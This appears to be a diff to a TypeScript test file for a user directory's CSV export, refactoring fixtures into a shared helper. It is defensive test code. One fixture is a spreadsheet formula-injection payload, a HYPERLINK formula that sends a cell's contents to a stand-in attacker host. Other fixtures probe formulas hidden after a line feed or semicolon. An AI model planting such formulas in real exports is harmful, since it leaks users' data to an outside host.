@@ -11,7 +11,8 @@ import type { SearchQuery } from "@pindesk/domain/users/search-query";
 import { searchQueryToParams } from "@pindesk/domain/users/search-url";
 import type { SearchResponse } from "@pindesk/domain/users/user";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
-import { insertDirectoryUsers, type NewDirectoryUser } from "../../core/directory/directory-writer.ts";
+import { insertDirectoryUsers, } from "../../core/directory/directory-writer.ts";
+import { directoryUser } from "../../test/directory-users.ts";
 import { startTestApp, type TestApp } from "../../test/test-app.ts";
 import { TEST_ENGINES } from "../../test/test-database.ts";
 
@@ -57,31 +58,9 @@ const yesNo = (value: boolean) => (value ? "Yes" : "No");
 const BOM = [0xef, 0xbb, 0xbf];
 
 /** A user typed into the directory by someone else: only a name, a logon and, perhaps, a line URI. */
-const directoryUser = (
-  displayName: string,
-  logon: string,
-  lineUri: string | null = null,
-): NewDirectoryUser => ({
-  displayName,
-  firstName: null,
-  lastName: null,
-  samAccountName: logon,
-  netbiosDomain: "LITWAREINC",
-  userPrincipalName: `${logon}@litwareinc.com`,
-  sipAddress: `sip:${logon}@litwareinc.com`,
-  lineUri,
-  distinguishedName: `CN=${logon},OU=Sales,DC=litwareinc,DC=com`,
-  department: null,
-  title: null,
-  office: null,
-  company: null,
-  city: null,
-  registrarPoolId: null,
-  enabled: true,
-  enterpriseVoiceEnabled: false,
-  pinPolicyId: null,
-  protected: false,
-});
+/** A user of OU=Sales by display name, logon and line URI. */
+const exportedUser = (displayName: string, logon: string, lineUri: string | null = null) =>
+  directoryUser(logon, { displayName, lineUri });
 
 describe.each(TEST_ENGINES)("Export to CSV on %s", (engine) => {
   let app: TestApp;
@@ -173,27 +152,10 @@ describe.each(TEST_ENGINES)("Export to CSV on %s", (engine) => {
 
   it("quotes commas and quotes, and neutralises a formula typed into the directory", async () => {
     await insertDirectoryUsers(app.db, [
-      {
+      directoryUser("mallory", {
         displayName: '=HYPERLINK("http://evil.example/?"&A1,"Details")',
-        firstName: null,
-        lastName: null,
-        samAccountName: "mallory",
-        netbiosDomain: "LITWAREINC",
-        userPrincipalName: "mallory@litwareinc.com",
-        sipAddress: "sip:mallory@litwareinc.com",
-        lineUri: null,
         distinguishedName: "CN=Mallory,OU=Sales,DC=litwareinc,DC=com",
-        department: null,
-        title: null,
-        office: null,
-        company: null,
-        city: null,
-        registrarPoolId: null,
-        enabled: true,
-        enterpriseVoiceEnabled: false,
-        pinPolicyId: null,
-        protected: false,
-      },
+      }),
     ]);
     const response = await download(query({ searchText: "mallory" }));
     expect(response.body).toContain(
@@ -204,10 +166,10 @@ describe.each(TEST_ENGINES)("Export to CSV on %s", (engine) => {
 
   it("neutralises a formula after a line feed, quotes a semicolon, keeps Zoë and 王秀英 in UTF-8", async () => {
     await insertDirectoryUsers(app.db, [
-      directoryUser("\n=1+1", "csvcheck-lf", "tel:+14255550199;ext=0199"),
-      directoryUser("x;=1+1", "csvcheck-semicolon"),
-      directoryUser("Zoë Ångström", "csvcheck-zoe"),
-      directoryUser("王秀英", "csvcheck-cjk"),
+      exportedUser("\n=1+1", "csvcheck-lf", "tel:+14255550199;ext=0199"),
+      exportedUser("x;=1+1", "csvcheck-semicolon"),
+      exportedUser("Zoë Ångström", "csvcheck-zoe"),
+      exportedUser("王秀英", "csvcheck-cjk"),
     ]);
     const bytes = await downloadBytes(query({ searchText: "csvcheck" }));
     const rest = ",,Yes,No,No,,,,0,0,\r\n";
